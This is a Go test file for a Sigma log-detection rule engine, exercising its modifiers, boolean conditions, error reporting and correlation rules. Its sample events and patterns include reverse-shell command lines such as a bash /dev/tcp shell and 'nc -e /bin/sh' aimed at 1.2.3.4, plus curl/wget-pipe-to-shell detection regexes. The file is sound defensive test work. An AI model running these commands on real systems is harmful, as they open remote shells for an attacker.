package sigma

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// mapEvent is a test event: field name -> values.
type mapEvent struct {
	tab  *FieldTable
	vals map[string][]string
	time map[string]time.Time
}

func (m *mapEvent) Field(id int) *Value {
	name := m.tab.Names()[id]
	if t, ok := m.time[name]; ok {
		return &Value{Strs: []string{t.Format(time.RFC3339Nano)}, Lower: []string{t.Format(time.RFC3339Nano)}, Time: t, HasTime: true}
	}
	ss, ok := m.vals[name]
	if !ok {
		return nil
	}
	v := &Value{Strs: ss}
	for _, s := range ss {
		v.Lower = append(v.Lower, strings.ToLower(s))
	}
	if len(ss) == 1 {
		if f, err := strconv.ParseFloat(ss[0], 64); err == nil {
			v.Num, v.HasNum = f, true
		}
	}
	return v
}

// identity maps every field to itself and keywords to "message".
func identity(f string) ([]string, error) {
	if f == "" {
		return []string{"message"}, nil
	}
	if f == "Unmapped" {
		return nil, errors.New("no mapping")
	}
	return []string{f}, nil
}

func compileDetection(t *testing.T, detection string, opts Options) (*Matcher, *FieldTable) {
	t.Helper()
	src := "title: t\nlogsource:\n  product: linux\ndetection:\n" + detection
	rs, err := Parse("test.yml", []byte(src))
	if err != nil {
		t.Fatalf("parse: %v\n%s", err, src)
	}
	tab := NewFieldTable()
	m, err := Compile(rs[0], identity, tab, opts)
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	return m, tab
}

type ev map[string][]string

func one(s string) []string { return []string{s} }

func TestModifiers(t *testing.T) {
	tests := []struct {
		name    string
		det     string
		match   []ev
		nomatch []ev
	}{
		{"plain equality is case-insensitive",
			"  sel:\n    Image: '/usr/bin/Curl'\n  condition: sel",
			[]ev{{"Image": one("/usr/bin/curl")}, {"Image": one("/USR/BIN/CURL")}},
			[]ev{{"Image": one("/usr/bin/curl2")}, {}}},
		{"contains",
			"  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel",
			[]ev{{"CommandLine": one("bash -i >& /dev/tcp/1.2.3.4/80")}},
			[]ev{{"CommandLine": one("bash -i")}}},
		{"startswith and endswith",
			"  sel:\n    a|startswith: 'ab'\n    b|endswith: 'yz'\n  condition: sel",
			[]ev{{"a": one("abc"), "b": one("xyz")}},
			[]ev{{"a": one("cab"), "b": one("xyz")}, {"a": one("abc"), "b": one("yzx")}}},
		{"list is or",
			"  sel:\n    Image|endswith:\n      - '/nc'\n      - '/ncat'\n  condition: sel",
			[]ev{{"Image": one("/bin/nc")}, {"Image": one("/usr/bin/ncat")}},
			[]ev{{"Image": one("/usr/bin/netcat")}}},
		{"all is and",
			"  sel:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: sel",
			[]ev{{"CommandLine": one("nc -e /bin/sh 1.2.3.4 80")}},
			[]ev{{"CommandLine": one("nc -e /bin/bash")}, {"CommandLine": one("echo /bin/sh")}}},
		{"wildcards",
			"  sel:\n    a: 'ab*c?e'\n  condition: sel",
			[]ev{{"a": one("abXYZcde")}, {"a": one("abcde")}},
			[]ev{{"a": one("abcdde")}, {"a": one("abce")}}},
		{"escaped wildcard is literal",
			"  sel:\n    a: 'a\\*b'\n  condition: sel",
			[]ev{{"a": one("a*b")}},
			[]ev{{"a": one("axb")}}},
		{"escaped backslash before wildcard",
			"  sel:\n    a: 'c:\\\\*'\n  condition: sel",
			[]ev{{"a": one("c:\\windows")}},
			[]ev{{"a": one("c:windows")}}},
		{"question mark escaped",
			"  sel:\n    a|contains: 'why\\?'\n  condition: sel",
			[]ev{{"a": one("but why?")}},
			[]ev{{"a": one("but whyx")}}},
		{"cased",
			"  sel:\n    a|cased: 'ABC'\n  condition: sel",
			[]ev{{"a": one("ABC")}},
			[]ev{{"a": one("abc")}}},
		{"re is case-sensitive",
			"  sel:\n    a|re: '^ba.h -[ic]$'\n  condition: sel",
			[]ev{{"a": one("bash -i")}},
			[]ev{{"a": one("BASH -i")}, {"a": one("bash -x")}}},
		{"re i flag",
			"  sel:\n    a|re|i: '^bash'\n  condition: sel",
			[]ev{{"a": one("BASH -i")}},
			[]ev{{"a": one("zsh")}}},
		{"re m flag",
			"  sel:\n    a|re|m: '^second$'\n  condition: sel",
			[]ev{{"a": one("first\nsecond\nthird")}},
			[]ev{{"a": one("first second")}}},
		{"re s flag",
			"  sel:\n    a|re|s: 'a.b'\n  condition: sel",
			[]ev{{"a": one("a\nb")}},
			[]ev{{"a": one("ab")}}},
		{"re lookahead falls back to a backtracking engine",
			"  sel:\n    a|re: 'foo(?=bar)'\n  condition: sel",
			[]ev{{"a": one("foobar")}},
			[]ev{{"a": one("foobaz")}}},
		{"base64",
			"  sel:\n    a|base64: 'bash'\n  condition: sel",
			[]ev{{"a": one("YmFzaA==")}},
			[]ev{{"a": one("bash")}}},
		{"base64offset contains",
			"  sel:\n    a|base64offset|contains: '/bin/sh'\n  condition: sel",
			[]ev{{"a": one("echo " + b64("/bin/sh -i"))}, {"a": one(b64("x/bin/sh"))}, {"a": one(b64("xy/bin/sh"))}},
			[]ev{{"a": one(b64("/bin/bash"))}}},
		{"utf16le and wide",
			"  sel:\n    a|wide|contains: 'cmd'\n  condition: sel",
			[]ev{{"a": one("x" + "c\x00m\x00d\x00")}},
			[]ev{{"a": one("cmd")}}},
		{"utf16be",
			"  sel:\n    a|utf16be: 'ab'\n  condition: sel",
			[]ev{{"a": one("\x00a\x00b")}},
			[]ev{{"a": one("a\x00b\x00")}}},
		{"utf16 with bom",
			"  sel:\n    a|utf16|base64: 'a'\n  condition: sel",
			[]ev{{"a": one(b64("\xff\xfea\x00"))}},
			[]ev{{"a": one(b64("a\x00"))}}},
		{"windash",
			"  sel:\n    a|windash|contains: ' -f '\n  condition: sel",
			[]ev{{"a": one("x -f y")}, {"a": one("x /f y")}, {"a": one("x \u2013f y")}},
			[]ev{{"a": one("x f y")}}},
		{"cidr",
			"  sel:\n    ip|cidr:\n      - '10.0.0.0/8'\n      - 'fd00::/8'\n  condition: sel",
			[]ev{{"ip": one("10.1.2.3")}, {"ip": one("fd12::1")}, {"ip": one("::ffff:10.0.0.1")}},
			[]ev{{"ip": one("11.0.0.1")}, {"ip": one("not an ip")}}},
		{"exists true",
			"  sel:\n    a|exists: true\n  condition: sel",
			[]ev{{"a": one("")}, {"a": one("x")}},
			[]ev{{}}},
		{"exists false",
			"  sel:\n    a|exists: false\n  condition: sel",
			[]ev{{}},
			[]ev{{"a": one("x")}}},
		{"numeric comparisons",
			"  sel:\n    p|gte: 1024\n    q|lt: 10\n  condition: sel",
			[]ev{{"p": one("1024"), "q": one("9")}, {"p": one("65535"), "q": one("-1")}},
			[]ev{{"p": one("1023"), "q": one("9")}, {"p": one("2000"), "q": one("10")}, {"p": one("x"), "q": one("1")}}},
		{"gt and lte",
			"  sel:\n    p|gt: 5\n    q|lte: 5\n  condition: sel",
			[]ev{{"p": one("6"), "q": one("5")}},
			[]ev{{"p": one("5"), "q": one("5")}}},
		{"integer value equals the decimal string",
			"  sel:\n    DestinationPort: 4444\n  condition: sel",
			[]ev{{"DestinationPort": one("4444")}},
			[]ev{{"DestinationPort": one("44444")}}},
		{"neq",
			"  sel:\n    a|neq: root\n  condition: sel",
			[]ev{{"a": one("bob")}, {}},
			[]ev{{"a": one("ROOT")}}},
		{"fieldref",
			"  sel:\n    a|fieldref: b\n  condition: sel",
			[]ev{{"a": one("X"), "b": one("x")}},
			[]ev{{"a": one("x"), "b": one("y")}, {"a": one("x")}}},
		{"fieldref endswith",
			"  sel:\n    a|fieldref|endswith: b\n  condition: sel",
			[]ev{{"a": one("/usr/bin/ls"), "b": one("ls")}},
			[]ev{{"a": one("/usr/bin/ls"), "b": one("cat")}}},
		{"null value: field absent or empty",
			"  sel:\n    a: null\n  condition: sel",
			[]ev{{}, {"a": one("")}},
			[]ev{{"a": one("x")}}},
		{"empty string is not absent",
			"  sel:\n    a: ''\n  condition: sel",
			[]ev{{"a": one("")}},
			[]ev{{"a": one("x")}, {}}},
		{"keywords search message as substrings",
			"  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n  condition: keywords",
			[]ev{{"message": one("sshd[1]: Failed password for root")}},
			[]ev{{"message": one("Accepted password")}}},
		{"keywords with all",
			"  keywords:\n    '|all':\n      - 'useradd'\n      - 'UID=0'\n  condition: keywords",
			[]ev{{"message": one("useradd[1]: new user: name=x, UID=0, GID=0")}},
			[]ev{{"message": one("useradd[1]: new user: name=x, UID=1000")}}},
		{"list of maps is or",
			"  sel:\n    - a: x\n    - b: y\n  condition: sel",
			[]ev{{"a": one("x")}, {"b": one("y")}},
			[]ev{{"a": one("y"), "b": one("x")}}},
		{"list field matches any element",
			"  sel:\n    args: '-i'\n  condition: sel",
			[]ev{{"args": []string{"bash", "-i"}}},
			[]ev{{"args": []string{"bash", "-c"}}}},
		{"time modifiers",
			"  sel:\n    ts|hour|gte: 22\n  condition: sel",
			nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, tab := compileDetection(t, tt.det, Options{})
			for _, e := range tt.match {
				if !m.Match(&mapEvent{tab: tab, vals: e}) {
					t.Errorf("no match for %q", e)
				}
			}
			for _, e := range tt.nomatch {
				if m.Match(&mapEvent{tab: tab, vals: e}) {
					t.Errorf("unexpected match for %q", e)
				}
			}
		})
	}
}

func b64(s string) string {
	const tbl = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var out strings.Builder
	for i := 0; i < len(s); i += 3 {
		var b [3]byte
		n := copy(b[:], s[i:])
		v := uint(b[0])<<16 | uint(b[1])<<8 | uint(b[2])
		for j := 0; j < 4; j++ {
			if j > n {
				out.WriteByte('=')
				continue
			}
			out.WriteByte(tbl[(v>>(18-6*j))&63])
		}
	}
	return out.String()
}

func TestTimeModifiers(t *testing.T) {
	m, tab := compileDetection(t, "  sel:\n    ts|hour|gte: 22\n    ts|month: 3\n  condition: sel", Options{})
	late := &mapEvent{tab: tab, time: map[string]time.Time{"ts": time.Date(2025, 3, 14, 23, 5, 0, 0, time.UTC)}}
	early := &mapEvent{tab: tab, time: map[string]time.Time{"ts": time.Date(2025, 3, 14, 9, 5, 0, 0, time.UTC)}}
	april := &mapEvent{tab: tab, time: map[string]time.Time{"ts": time.Date(2025, 4, 14, 23, 5, 0, 0, time.UTC)}}
	if !m.Match(late) || m.Match(early) || m.Match(april) {
		t.Errorf("late %v early %v april %v, want true false false", m.Match(late), m.Match(early), m.Match(april))
	}
}

func TestExpand(t *testing.T) {
	opts := Options{Placeholders: map[string][]string{"admins": {"alice", "bob*"}}}
	m, tab := compileDetection(t, "  sel:\n    User|expand: '%admins%'\n  condition: sel", opts)
	for name, want := range map[string]bool{"alice": true, "bobby": true, "carol": false} {
		if got := m.Match(&mapEvent{tab: tab, vals: ev{"User": one(name)}}); got != want {
			t.Errorf("%s: got %v want %v", name, got, want)
		}
	}
	rs, err := Parse("x.yml", []byte("title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    User|expand: '%nope%'\n  condition: sel\n"))
	if err != nil {
		t.Fatal(err)
	}
	_, err = Compile(rs[0], identity, NewFieldTable(), opts)
	if err == nil || !strings.Contains(err.Error(), "unknown placeholder %nope%") || !strings.Contains(err.Error(), "x.yml:5") {
		t.Errorf("unknown placeholder: got %v", err)
	}
}

func TestConditions(t *testing.T) {
	det := `  sel_a:
    a: x
  sel_b:
    b: x
  filter_c:
    c: x
`
	tests := []struct {
		cond string
		want map[string]bool // event fields set to x (as "abc") -> match
	}{
		{"sel_a", map[string]bool{"a": true, "b": false, "": false}},
		{"sel_a and sel_b", map[string]bool{"ab": true, "a": false, "b": false}},
		{"sel_a or sel_b", map[string]bool{"a": true, "b": true, "c": false}},
		{"not sel_a", map[string]bool{"a": false, "": true}},
		{"sel_a and not filter_c", map[string]bool{"a": true, "ac": false}},
		{"sel_a or sel_b and filter_c", map[string]bool{"a": true, "b": false, "bc": true}},
		{"(sel_a or sel_b) and filter_c", map[string]bool{"a": false, "ac": true, "bc": true}},
		{"not sel_a and sel_b", map[string]bool{"b": true, "ab": false}},
		{"not (sel_a and sel_b)", map[string]bool{"ab": false, "a": true}},
		{"1 of sel_*", map[string]bool{"a": true, "b": true, "c": false}},
		{"all of sel_*", map[string]bool{"ab": true, "a": false}},
		{"1 of them", map[string]bool{"c": true, "": false}},
		{"all of them", map[string]bool{"abc": true, "ab": false}},
		{"any of sel*", map[string]bool{"b": true}},
		{"all of sel_* and not 1 of filter_*", map[string]bool{"ab": true, "abc": false}},
		{"SEL_A AND NOT FILTER_C", nil},
	}
	for _, tt := range tests {
		t.Run(tt.cond, func(t *testing.T) {
			src := det + "  condition: " + tt.cond + "\n"
			if tt.want == nil {
				// keywords are case-insensitive, identifiers are not
				src = "  SEL_A:\n    a: x\n  FILTER_C:\n    c: x\n  condition: " + tt.cond + "\n"
				tt.want = map[string]bool{"a": true, "ac": false}
			}
			m, tab := compileDetection(t, src, Options{})
			for fields, want := range tt.want {
				e := ev{}
				for _, f := range fields {
					e[string(f)] = one("x")
				}
				if got := m.Match(&mapEvent{tab: tab, vals: e}); got != want {
					t.Errorf("fields %q: got %v want %v", fields, got, want)
				}
			}
		})
	}
}

func TestConditionErrors(t *testing.T) {
	tests := []struct {
		cond string
		col  int
		msg  string
	}{
		{"", 1, "empty"},
		{"sel and", 8, "unexpected end"},
		{"(sel", 5, "missing ')'"},
		{"sel)", 4, "unexpected \")\""},
		{"sel or or sel", 8, "unexpected \"or\""},
		{"2 of sel*", 1, "unsupported quantifier"},
		{"1 of", 5, "expected an identifier"},
		{"sel | count() > 5", 5, "aggregations"},
		{"sel sel", 5, "unexpected \"sel\""},
	}
	for _, tt := range tests {
		t.Run(tt.cond, func(t *testing.T) {
			_, err := ParseCondition(tt.cond)
			var ce *ConditionError
			if !errors.As(err, &ce) {
				t.Fatalf("got %v, want a ConditionError", err)
			}
			if ce.Col != tt.col || !strings.Contains(ce.Msg, tt.msg) {
				t.Errorf("got column %d %q, want column %d containing %q", ce.Col, ce.Msg, tt.col, tt.msg)
			}
		})
	}
}

func TestParseErrorsHaveLines(t *testing.T) {
	tests := []struct {
		name, src string
		line      int
		msg       string
	}{
		{"unknown identifier", "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: x\n  condition: sel and other\n", 6, "unknown search identifier \"other\""},
		{"pattern matches nothing", "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: x\n  condition: 1 of filter_*\n", 6, "matches no search"},
		{"no condition", "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: x\n", 4, "no condition"},
		{"no title", "logsource: {product: linux}\ndetection:\n  sel:\n    a: x\n  condition: sel\n", 1, "title is missing"},
		{"bad level", "title: t\nlevel: extreme\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: x\n  condition: sel\n", 2, "unknown level"},
		{"yaml syntax", "title: t\nlogsource: [\n", 2, "yaml"},
		{"empty value list", "title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    a: []\n  condition: sel\n", 5, "empty value list"},
		{"duplicate key", "title: t\ntitle: u\nlogsource: {product: linux}\n", 2, "already defined"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("r.yml", []byte(tt.src))
			var se *Error
			if !errors.As(err, &se) {
				t.Fatalf("got %v, want *Error", err)
			}
			if se.File != "r.yml" || se.Line != tt.line || !strings.Contains(se.Msg, tt.msg) {
				t.Errorf("got %s:%d %q, want line %d containing %q", se.File, se.Line, se.Msg, tt.line, tt.msg)
			}
		})
	}
}

func TestCompileErrorsHaveLines(t *testing.T) {
	tests := []struct {
		name, det string
		line      int
		msg       string
	}{
		{"unknown modifier", "  sel:\n    a|sortof: x\n  condition: sel\n", 5, "unknown modifier"},
		{"bad regexp", "  sel:\n    a|re: '(('\n  condition: sel\n", 5, "re:"},
		{"bad cidr", "  sel:\n    a|cidr: '10.0.0.0/99'\n  condition: sel\n", 5, "cidr"},
		{"non-numeric gt", "  sel:\n    a|gt: ten\n  condition: sel\n", 5, "needs a number"},
		{"base64 of a wildcard", "  sel:\n    a|base64: 'a*'\n  condition: sel\n", 5, "wildcards"},
		{"unmapped field", "  sel:\n    Unmapped: x\n  condition: sel\n", 5, "no mapping"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs, err := Parse("r.yml", []byte("title: t\nlogsource: {product: linux}\ndetection:\n"+tt.det))
			if err != nil {
				t.Fatal(err)
			}
			_, err = Compile(rs[0], identity, NewFieldTable(), Options{})
			var se *Error
			if !errors.As(err, &se) {
				t.Fatalf("got %v, want *Error", err)
			}
			if se.Line != tt.line || !strings.Contains(se.Msg, tt.msg) {
				t.Errorf("got line %d %q, want line %d containing %q", se.Line, se.Msg, tt.line, tt.msg)
			}
		})
	}
}

func TestCorrelationParse(t *testing.T) {
	src := `title: base
name: base
logsource: {product: linux}
detection:
  sel:
    a: x
  condition: sel
---
title: many
correlation:
  type: value_count
  rules: [base]
  group-by: [ip]
  timespan: 2m
  condition:
    field: user
    gte: 5
    lt: 10
`
	rs, err := Parse("c.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 2 || rs[1].Correlation == nil {
		t.Fatalf("got %d rules", len(rs))
	}
	c := rs[1].Correlation
	if c.Type != ValueCount || c.Timespan != 2*time.Minute || c.Field != "user" || len(c.Conds) != 2 {
		t.Errorf("got %+v", c)
	}
	if !c.Holds(5) || !c.Holds(9) || c.Holds(4) || c.Holds(10) {
		t.Error("Holds does not apply gte 5 and lt 10")
	}
	for _, bad := range []string{"type: value_sum", "type: nope", "timespan: 5x", "timespan: 40d"} {
		s := strings.Replace(strings.Replace(src, "type: value_count", "type: value_count", 1), "", "", 0)
		if strings.HasPrefix(bad, "type") {
			s = strings.Replace(src, "type: value_count", bad, 1)
		} else {
			s = strings.Replace(src, "timespan: 2m", bad, 1)
		}
		if _, err := Parse("c.yml", []byte(s)); err == nil {
			t.Errorf("%s: no error", bad)
		}
	}
}

// sigmaHQDir is the SigmaHQ Linux rule set in the shared test data.
func sigmaHQDir(tb testing.TB) string {
	tb.Helper()
	for _, d := range []string{"../../../../shared/data/sigma_linux_rules", "/work/shared/data/sigma_linux_rules"} {
		if st, err := os.Stat(d); err == nil && st.IsDir() {
			return d
		}
	}
	tb.Skip("shared sigma_linux_rules data not present")
	return ""
}

func TestSigmaHQRulesParse(t *testing.T) {
	dir := sigmaHQDir(t)
	n := 0
	err := filepath.WalkDir(filepath.Join(dir, "rules", "linux"), func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".yml") {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rs, err := Parse(p, data)
		if err != nil {
			t.Errorf("%v", err)
		}
		n += len(rs)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n != 210 {
		t.Errorf("parsed %d rules, want 210", n)
	}
}

func TestRegexpAtoms(t *testing.T) {
	tests := []struct {
		re   string
		want []string // nil: no prefilter
	}{
		{`curl\s+http`, []string{"curl"}},
		{`(curl|wget)\s.*\|\s*sh`, []string{"curl", "wget"}},
		{`(?i)BASH -I`, []string{"bash -i"}},
		{`a*b?`, nil},
		{`[a-z]+`, nil},
		{`x|[0-9]`, nil},
		{`(abc)+def`, []string{"abc"}},
	}
	for _, tt := range tests {
		t.Run(tt.re, func(t *testing.T) {
			m, tab := compileDetection(t, "  sel:\n    a|re: '"+tt.re+"'\n  condition: sel", Options{})
			_ = tab
			var got []string
			for _, a := range m.Atoms {
				got = append(got, a.Lit)
			}
			if !m.Prefilter {
				got = nil
			}
			if strings.Join(got, ",") != strings.Join(tt.want, ",") {
				t.Errorf("atoms %q, want %q", got, tt.want)
			}
		})
	}
}
